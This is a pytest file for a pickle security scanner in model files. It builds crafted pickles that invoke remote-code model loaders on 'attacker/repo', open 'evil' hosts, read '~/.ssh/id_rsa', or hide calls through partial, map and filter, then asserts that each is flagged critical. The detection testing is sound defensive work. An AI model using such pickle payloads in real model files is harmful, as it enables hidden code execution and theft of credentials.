"""Trusted-package names that fetch and load the model they are given.

`SentenceTransformer("org/repo", ..., trust_remote_code=True)` runs the repository's code, so
a pickle that *calls* such a class is CRITICAL; a saved instance is rebuilt without calling it
(NEWOBJ or copyreg's `_reconstructor`) and stays quiet.
"""

from __future__ import annotations

import pytest

from modelaudit.rules import pickle as R
from tests.pickle._pickle_corpus import call, critical, g0, p2, p4, scan, sg, warnings_of

_ST = ("sentence_transformers.SentenceTransformer", "SentenceTransformer")


@pytest.mark.parametrize(
    ("module", "name"),
    [
        _ST,
        ("sentence_transformers", "SentenceTransformer"),
        ("sentence_transformers.cross_encoder.CrossEncoder", "CrossEncoder"),
        ("sentence_transformers.models", "Transformer"),
        ("sentence_transformers.models.CLIPModel", "CLIPModel"),
        ("transformers", "pipeline"),
        ("transformers.pipelines", "pipeline"),
        # trl's trainers load a model named by a string (with the config's trust_remote_code)
        ("trl", "SFTTrainer"),
        ("trl.trainer.grpo_trainer", "GRPOTrainer"),
        ("trl.experimental.orpo.orpo_trainer", "ORPOTrainer"),
        # dataset classes download and extract into the root they are given
        ("torchvision.datasets", "MNIST"),
        ("torchvision.datasets.folder", "ImageFolder"),
        ("torchaudio.datasets", "LIBRISPEECH"),
    ],
)
def test_calling_a_model_loader_is_critical(module: str, name: str) -> None:
    result, _ = scan(p4(call(sg(module, name), "attacker/repo")))
    calls = [i for i in result.issues if i.rule == R.DANGEROUS_CALL]
    assert calls and calls[0].severity.value == "critical", critical(result)


#: Classes whose construction does something else no load needs: an optuna Study opens the
#: storage its URL names, a Booster loads another model from a path, a data set reads a file.
CALLED_CLASSES = [
    ("optuna", "Study", ("s", "postgresql://evil/db"), "network"),
    ("optuna.study", "Study", ("s", "sqlite:////home/u/.bashrc"), "network"),
    ("optuna.study.study", "Study", ("s", "mysql://evil/db"), "network"),
    ("xgboost", "Booster", ("p", "c", "/home/u/other.json"), "nested-unpickler"),
    ("xgboost.core", "DMatrix", ("/home/u/.ssh/id_rsa",), "file"),
    ("lightgbm.basic", "Booster", ("p", "t", "/home/u/other.txt"), "nested-unpickler"),
    ("lightgbm", "Dataset", ("/home/u/.ssh/id_rsa",), "file"),
    ("catboost", "Pool", ("/home/u/.ssh/id_rsa",), "file"),
    ("catboost.core", "Pool", ("x", "/home/u/.ssh/id_rsa"), "file"),
    ("transformers", "Trainer", ("model", "args"), "file"),
    (
        "scipy.odr",
        "ODR",
        ("data", "model", "b", "d", "i", "x", "j", "p", "/home/u/.bashrc"),
        "file",
    ),
    ("transformers.trainer_seq2seq", "Seq2SeqTrainer", ("model", "args"), "file"),
    (
        "pytorch_lightning.callbacks.model_checkpoint",
        "ModelCheckpoint",
        ("ssh://evil/ckpt",),
        "network",
    ),
    ("lightning.pytorch.callbacks", "ModelCheckpoint", ("ftp://evil/ckpt",), "network"),
]


def test_sd1_checkpoint_keys_its_callback_state_by_the_class() -> None:
    """Stable Diffusion 1.x `.ckpt` files (Lightning 1.4) hold `{ModelCheckpoint: {...}}`
    under "callbacks": a class used as a dict key, never called, was an MA1010 WARNING on
    every such checkpoint."""
    callbacks = (
        b"}"
        + g0("pytorch_lightning.callbacks.model_checkpoint", "ModelCheckpoint")
        + b"}X\x07\x00\x00\x00monitorNsX\x0a\x00\x00\x00best_scoreNss"
    )
    data = p2(b"}X\x09\x00\x00\x00callbacks" + callbacks + b"s")
    result, _ = scan(data)
    assert not critical(result), critical(result)
    assert not warnings_of(result), warnings_of(result)


@pytest.mark.parametrize(("module", "name", "a", "family"), CALLED_CLASSES)
def test_calling_a_class_that_connects_or_loads_by_path_is_critical(
    module: str, name: str, a: tuple[str, ...], family: str
) -> None:
    result, _ = scan(p4(call(sg(module, name), *a)))
    calls = [i for i in result.issues if i.rule == R.DANGEROUS_CALL]
    assert calls and calls[0].severity.value == "critical", [i.message for i in result.issues]
    assert calls[0].details.get("family") == family, calls[0].details


@pytest.mark.parametrize(("module", "name", "a", "family"), CALLED_CLASSES)
def test_a_saved_study_or_booster_is_quiet(
    module: str, name: str, a: tuple[str, ...], family: str
) -> None:
    """joblib.dump(study) and a pickled Booster rebuild the instance without `__init__`."""
    newobj = p4(sg(module, name) + b")\x81}b")
    rebuilt = p2(
        g0("copyreg", "_reconstructor")
        + b"("
        + g0(module, name)
        + g0("builtins", "object")
        + b"NtR}b"
    )
    for data in (newobj, rebuilt):
        result, _ = scan(data)
        assert not critical(result), critical(result)
        assert not warnings_of(result), warnings_of(result)


def test_inst_form_is_critical_too() -> None:
    data = b"(S'attacker/repo'\ni" + "\n".join(_ST).encode() + b"\n."
    assert critical(scan(data)[0])


def test_saved_instance_rebuilt_without_init_is_quiet() -> None:
    newobj = p4(sg(*_ST) + b")\x81}b")
    rebuilt = p2(
        g0("copyreg", "_reconstructor") + b"(" + g0(*_ST) + g0("builtins", "object") + b"NtR}b"
    )
    for data in (newobj, rebuilt):
        result, _ = scan(data)
        assert not critical(result), critical(result)
        assert not warnings_of(result), warnings_of(result)


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("fastcore.xtras", "run"),  # subprocess.run
        ("fastcore.utils", "run"),  # the same, re-exported
        ("fastai.basics", "run"),
        ("fastcore.parallel", "run_procs"),
        ("fastcore.xtras", "load_pickle"),
        ("fastai.torch_core", "load_pickle"),
        ("timm.models", "load_checkpoint"),
        ("fastcore.xtras", "untar_dir"),
        ("fastcore.xtras", "save_pickle"),
        ("fastcore.xtras", "expand_wildcards"),
        ("fastcore.net", "urlread"),
        ("fastcore.net", "urlsave"),
        ("torchvision.datasets.utils", "download_and_extract_archive"),
        # numpy/scipy/sklearn file helpers reached through re-exports and private modules
        ("numpy.matlib", "loadtxt"),
        ("numpy.matlib", "savez_compressed"),
        ("numpy.lib._format_impl", "open_memmap"),
        ("numpy.ma.mrecords", "openfile"),
        ("numpy._core._methods", "_dump"),
        ("numpy._core._multiarray_tests", "npy_import_entry_point"),
        ("scipy.sparse._matrix_io", "save_npz"),
        ("sklearn.utils.fixes", "tarfile_extractall"),
    ],
)
def test_trusted_package_helpers_that_run_fetch_or_load_are_critical(
    module: str, name: str
) -> None:
    result, _ = scan(p4(call(sg(module, name), "/tmp/x")))
    assert critical(result), [i.message for i in result.issues]


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("fastcore.foundation", "L"),
        ("fastcore.basics", "noop"),
        ("fastai.metrics", "accuracy"),
        ("fastai.vision.learner", "_resnet_split"),
        ("numpy._core.multiarray", "_reconstruct"),
        ("numpy.random._pickle", "__randomstate_ctor"),
        ("scipy.sparse._csr", "csr_matrix"),
    ],
)
def test_trusted_package_helpers_models_pickle_stay_quiet(module: str, name: str) -> None:
    result, _ = scan(p4(sg(module, name)))
    assert not critical(result)
    assert not warnings_of(result)


@pytest.mark.parametrize(
    ("module", "name", "state"),
    [
        (*_ST, "attacker/repo"),
        ("xgboost", "DMatrix", "/home/u/.ssh/id_rsa"),
        ("optuna.study", "Study", "s"),
    ],
)
def test_reconstructor_with_the_class_as_base_runs_its_init(
    module: str, name: str, state: str
) -> None:
    """`copyreg._reconstructor(cls, base, state)` calls `base.__init__(obj, state)` unless base
    is object: naming the loader class as its own base calls it."""
    data = p2(
        g0("copyreg", "_reconstructor")
        + b"("
        + g0(module, name)
        + g0(module, name)
        + f"S'{state}'\n".encode()
        + b"tR"
    )
    result, _ = scan(data)
    calls = [i for i in result.issues if i.rule == R.DANGEROUS_CALL]
    assert calls and calls[0].severity.value == "critical", [i.message for i in result.issues]


def _lst(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"l"


def test_a_called_partial_calls_the_class() -> None:
    """partial(ST, repo)() and partial(print) whose BUILD state swaps ST in, then called."""
    from tests.pickle._pickle_corpus import Op, s

    st = Op(sg(*_ST))
    direct = call(call(sg("functools", "partial"), st, "attacker/repo"))
    swapped = call(
        Op(
            call(sg("functools", "partial"), Op(sg("builtins", "print")))
            + b"("
            + st
            + b"("
            + s("attacker/repo")
            + b"t}Ntb"
        )
    )
    for body in (direct, swapped):
        result, _ = scan(p4(body))
        calls = [i for i in result.issues if i.rule == R.DANGEROUS_CALL]
        assert calls and "attacker/repo" in calls[0].message, [i.message for i in result.issues]


def test_a_stored_partial_is_a_factory_and_stays_quiet() -> None:
    result, _ = scan(p4(call(sg("functools", "partial"), sg(*_ST), "org/model")))
    assert not critical(result), critical(result)


def test_map_and_filter_call_the_class_out_of_sight() -> None:
    from tests.pickle._pickle_corpus import Op, s

    for hof in ("map", "filter"):
        mapped = call(sg("builtins", hof), Op(sg(*_ST)), Op(_lst(s("attacker/repo"))))
        result, _ = scan(p4(call(sg("builtins", "list"), Op(mapped))))
        assert critical(result), [i.message for i in result.issues]
